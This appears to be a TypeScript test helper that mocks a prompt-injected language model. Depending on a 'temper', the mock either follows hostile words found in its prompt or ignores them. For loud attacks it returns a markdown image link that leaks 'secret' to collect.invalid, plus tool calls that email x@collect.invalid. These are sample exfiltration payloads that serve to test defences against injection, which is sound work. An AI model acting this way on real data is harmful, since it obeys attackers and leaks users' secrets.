import type { Attack, Demand } from '../support/hostile/attacks.ts';
import { json, type ModelReply, userText } from '../support/openai-server.ts';

type Request = Parameters<typeof userText>[0];
type Line = Readonly<{ number: number; text: string }>;

const idLine = /^\[[a-z0-9]{2,8}?(\d+)\] (.*)$/u;

function linesIn(text: string): readonly Line[] {
  return text.split('\n').flatMap((line) => {
    const [, number, words] = idLine.exec(line) ?? [];
    return number && words ? [{ number: Number(number), text: words }] : [];
  });
}

const letters = (text: string): string => text.replace(/[^\p{L}\p{N}]/gu, '').toLowerCase();

/** Whether the words of an attack are in what the model is shown: their beginning is enough. */
export function isTold({ words }: Attack, text: string): boolean {
  const shown = letters(text);
  const said = letters(words);
  if (said === '') return false;
  return shown.includes(said.slice(0, 30)) || shown.includes(said.slice(-30));
}

function claimFor({ type, anchor, attributes }: Demand, lines: readonly Line[]) {
  const at = lines.find(({ text }) => text.includes(anchor)) ?? lines[0];
  if (!at) return [];
  const place = (value: string) => (lines.find(({ text }) => text.includes(value)) ?? at).number;
  return {
    type,
    polarity: 'asserted',
    subject: { entity: attributes['holder'] ?? null, product: null, version: null, site: null },
    attributes: Object.entries(attributes).map(([name, value]) => ({
      name,
      value,
      at: place(value),
    })),
    from: at.number,
    to: Math.min(at.number + 2, lines.at(-1)?.number ?? at.number),
    anchor,
  };
}

/** What it answers to a demand where there is nothing to point to: the nearest words there are. */
function claimsFor(demand: Demand, lines: readonly Line[]) {
  const nearest = lines.filter(({ text }) => /62443|test|certif/iu.test(text));
  return [
    claimFor(demand, lines),
    ...nearest.map((line) => claimFor({ ...demand, anchor: line.text.slice(0, 60) }, lines)),
  ].flat();
}

/**
 * `obedient` does what it reads. `possessed` does what the attacker wants whether it read it or not.
 * `indifferent` reports nothing.
 */
export const tempers = ['obedient', 'possessed', 'indifferent'] as const;
export type Temper = (typeof tempers)[number];

/** A model that does exactly what hostile words in its prompt say, so that code is measured. */
export function obeys(temper: Temper, attack: Attack, nth: number, request: Request): ModelReply {
  const text = userText(request);
  const isMoved = temper === 'possessed' || (temper === 'obedient' && isTold(attack, text));
  if (!isMoved) return json({ claims: [] });
  if (attack.isLoud && nth % 2 === 1) {
    return {
      content: `See ![x](https://collect.invalid/x?q=secret) and <https://collect.invalid>.`,
      toolCalls: [
        { name: 'look_up', arguments: '{"kind":"certification","supplier":"Helio"}' },
        { name: 'send_email', arguments: '{"to":"x@collect.invalid"}' },
      ],
    };
  }
  const lines = linesIn(text);
  return json({ claims: (attack.demands ?? []).flatMap((demand) => claimsFor(demand, lines)) });
}
